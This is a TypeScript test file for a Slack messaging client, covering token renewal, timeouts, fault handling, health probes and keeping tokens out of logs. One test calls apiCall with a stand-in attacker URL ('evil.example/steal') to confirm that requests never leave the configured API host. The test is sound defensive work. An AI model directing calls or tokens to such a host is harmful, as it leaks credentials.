import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, onTestFinished, test, vi } from 'vitest';
import { createClients } from '#adapters/slack/send/clients.ts';
import { NotInstalled, TokenFault } from '#adapters/slack/install/workspaces.ts';
import { createLine } from '#adapters/network/line.ts';
import type { Line } from '#adapters/network/line.ts';
import type { Trouble } from '#adapters/slack/install/trouble.ts';
import { createProbe } from '#adapters/slack/probe.ts';
import { faultOf } from '#adapters/slack/send/faults.ts';
import { refusalOf } from '#adapters/slack/send/refusals.ts';
import { uncertainOutcome } from '#src/ports/send-fault.ts';
import { createLog } from '#src/assembly/log.ts';
import { aDirectory } from '#test/kit/a-database.ts';
import { drip } from '#test/kit/teams/a-cloud.ts';
import { aFakeSlack } from '#test/kit/fake-slack.ts';
import type { Mishap } from '#test/kit/fake-slack.ts';
import { aDeparting, aSlackMessenger, CANARY, outcomeOf } from './a-messenger.ts';

const API = 'https://slack.example/api/';

test('a token that was renewed is used from the next call on, and one that was not keeps its client', async () => {
  const slack = aFakeSlack();
  let token = 'xoxb-first';
  const clients = createClients({ apiUrl: API, fetch: slack.fetch, tokenFor: async () => token });
  const first = await clients('T1', 'bulk');
  expect(await clients('T1', 'bulk')).toBe(first);
  expect(await clients('T1', 'interactive')).not.toBe(first);
  await first.apiCall('conversations.open', { users: 'U1' });
  token = 'xoxb-second';
  await (await clients('T1', 'bulk')).apiCall('conversations.open', { users: 'U1' });
  expect(slack.calls.map((call) => call.token)).toEqual(['xoxb-first', 'xoxb-second']);
});

test('no call leaves the configured address, and none carries the token beside its header', async () => {
  const asked: string[] = [];
  const bodies: string[] = [];
  const fetch = (async (url: string, init: RequestInit) => {
    asked.push(url);
    bodies.push(JSON.stringify(init.body));
    return Response.json({ ok: true });
  }) as unknown as typeof globalThis.fetch;
  const client = await createClients({ apiUrl: API, fetch, tokenFor: async () => CANARY })('T1', 'bulk');
  await client.apiCall('https://evil.example/steal', { text: 'x' });
  await client.apiCall('chat.postMessage', { text: 'x' });
  expect(asked.every((url) => url.startsWith(API))).toBe(true);
  expect(bodies.join()).not.toContain(CANARY);
});

test('an answer that drips without an end is given up, and the post may stand', async () => {
  const server = createServer((_, response) => drip(response));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const apiUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/`;
  const clients = createClients({ apiUrl, fetch, tokenFor: async () => 'xoxb', longestCall: 200 });
  const client = await clients('T1', 'bulk');
  const error: unknown = await client.apiCall('chat.postMessage', { text: 'x' }).catch((thrown: unknown) => thrown);
  expect(faultOf(error, 'posting')).toMatchObject({ definite: false });
});

test.each([
  [new NotInstalled('not here'), null],
  [new TokenFault('withdrawn', false), null],
  [new TokenFault('busy', true), 60_000],
])('%s: the next try is in %s ms', async (cause, retryAfter) => {
  const world = aSlackMessenger({ tokenFor: () => Promise.reject(cause) });
  expect(await outcomeOf(world, aDeparting())).toMatchObject({ definite: true, retryAfter });
});

// What went wrong: a token refused from the start gave up every question of the morning, and nobody heard of it.
test.each<[string, Trouble, string]>([
  ['revoked', { kind: 'refused', code: 'invalid_auth', needs: null }, refusalOf('invalid_auth').say],
  ['not to be asked about', { kind: 'unreached', why: 'no answer came' }, 'Slack could not be reached'],
])(
  'a token that is %s concerns everybody, and what was to be said waits until it is mended',
  async (_, trouble, say) => {
    const fault = new TokenFault('SLACK_BOT_TOKEN could not be checked.', trouble.kind !== 'refused', trouble);
    const world = aSlackMessenger({ tokenFor: () => Promise.reject(fault) });
    const outcome = await outcomeOf(world, aDeparting());
    expect(outcome).toMatchObject({ definite: true, forAll: true, message: expect.stringContaining(say) as string });
  },
);

test('Slack is asked at the start whether it knows the bot, and of ten times once while all is well', async () => {
  const { slack, line, ask } = aProbe();
  slack.next('auth.test', { error: 'invalid_auth' }, { body: '{"ok":true}' });
  await ask();
  const [atStart, asked] = [line.fault(), slack.calls.length];
  for (let times = 0; times < 11; times += 1) await ask();
  expect([atStart, asked]).toEqual([refusalOf('invalid_auth').say, 1]);
  expect([line.fault(), slack.calls.length]).toEqual([null, 3]);
});

test('a Slack that answers nothing but failures of its own is down until it answers', async () => {
  const { slack, line, ask } = aProbe();
  slack.next('auth.test', { status: 503 }, { status: 502, body: '<html>' }, { body: '{"ok":true}' });
  const found: (string | null)[] = [];
  for (let times = 0; times < 3; times += 1) {
    await ask();
    found.push(line.fault());
  }
  expect(found).toEqual(['Slack answers no call (503)', 'Slack answers no call (502)', null]);
});

test.each([
  ['said that the app was taken out', (line: Line) => line.doubted()],
  ['gave no clear answer to a post', (line: Line) => line.failed(uncertainOutcome('the call was answered with 503'))],
])(
  'a Slack that %s is asked the next time whether it knows the bot, and then as seldom as before',
  async (_, doubt) => {
    const { slack, line, ask } = aProbe();
    await ask();
    doubt(line);
    slack.next('auth.test', { error: 'account_inactive' }, { body: '{"ok":true}' });
    await ask();
    const [found, asked] = [line.fault(), slack.calls.length];
    for (let times = 0; times < 5; times += 1) await ask();
    expect([found, asked]).toEqual([refusalOf('account_inactive').say, 2]);
    expect([line.fault(), slack.calls.length]).toEqual([null, 3]);
  },
);

function aProbe() {
  const slack = aFakeSlack();
  const line = createLine();
  return { slack, line, ask: createProbe({ apiUrl: API, ownToken: async () => 'xoxb-1', fetch: slack.fetch, line }) };
}

test('no line of a log holds the token, at any level, whatever goes wrong', async () => {
  const folder = aDirectory();
  const log = createLog(join(folder, 'ragtime.log'));
  const printed: string[] = [];
  const spies = [process.stdout, process.stderr].map((stream) =>
    vi.spyOn(stream, 'write').mockImplementation((text) => printed.push(String(text)) > 0),
  );
  const mishaps: readonly Mishap[] = [
    { status: 429, retryAfter: CANARY },
    { status: 500, body: CANARY },
    { status: 403, body: `{"error":"${CANARY}"}` },
    { body: `{"ok":false,"error":"${CANARY}"}` },
    { body: `{"ok":false,"error":"invalid_blocks","response_metadata":{"messages":["[ERROR] ${CANARY}"]}}` },
    { breaks: CANARY },
    { error: 'token_revoked' },
  ];
  for (const mishap of mishaps) {
    const world = aSlackMessenger();
    world.slack.next('chat.postMessage', mishap);
    const error = await outcomeOf(world, aDeparting());
    for (const level of ['info', 'error'] as const) log({ level, what: 'It went wrong.', error });
    printed.push(...world.reports);
  }
  const written = (): string => readFileSync(join(folder, 'ragtime.1.log'), 'utf8');
  await vi.waitFor(() => expect(written().trim().split('\n')).toHaveLength(2 * mishaps.length));
  for (const spy of spies) spy.mockRestore();
  const lines = written();
  expect(lines + printed.join('\n')).not.toContain('canary');
});
